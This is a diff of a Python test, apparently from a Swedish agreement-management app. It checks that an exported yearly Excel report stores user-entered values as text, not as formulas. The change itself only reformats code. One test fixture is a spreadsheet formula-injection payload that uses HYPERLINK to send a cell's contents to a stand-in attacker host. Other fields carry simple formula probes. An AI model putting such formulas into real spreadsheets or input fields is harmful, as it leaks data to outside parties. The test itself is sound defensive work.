@@ -17,10 +17,18 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Öppna")'
 
 def test_yearly_report_excel_writes_formulas_as_text(world):
     activity = services.propose_activity(actor=world.wg_member, data=world.activity_data(title=FORMULA, place="=1+1"))
-    services.decide_activity(actor=world.sg_member, activity=activity, decision="approve", justification="=2+2", date=dt.date(2025, 3, 1))
-    services.create_funding_application(actor=world.wg_member, activity=activity, data=FundingCreate(funder="=3+3", amount_applied=1000))
-    indicator = services.create_indicator(actor=world.coordinator, agreement=world.agreement, data=IndicatorCreate(name="+4+4", unit="@SUM(1)"))
-    services.set_indicator_year(actor=world.coordinator, indicator=indicator, year=2025, data=IndicatorYearIn(value=3, comment="-5+5"))
+    services.decide_activity(
+        actor=world.sg_member, activity=activity, decision="approve", justification="=2+2", date=dt.date(2025, 3, 1)
+    )
+    services.create_funding_application(
+        actor=world.wg_member, activity=activity, data=FundingCreate(funder="=3+3", amount_applied=1000)
+    )
+    indicator = services.create_indicator(
+        actor=world.coordinator, agreement=world.agreement, data=IndicatorCreate(name="+4+4", unit="@SUM(1)")
+    )
+    services.set_indicator_year(
+        actor=world.coordinator, indicator=indicator, year=2025, data=IndicatorYearIn(value=3, comment="-5+5")
+    )
     client = Client()
     client.force_login(world.coordinator)
     response = client.get(f"/samverkan/avtal/{world.agreement.pk}/arsrapport/2025.xlsx")
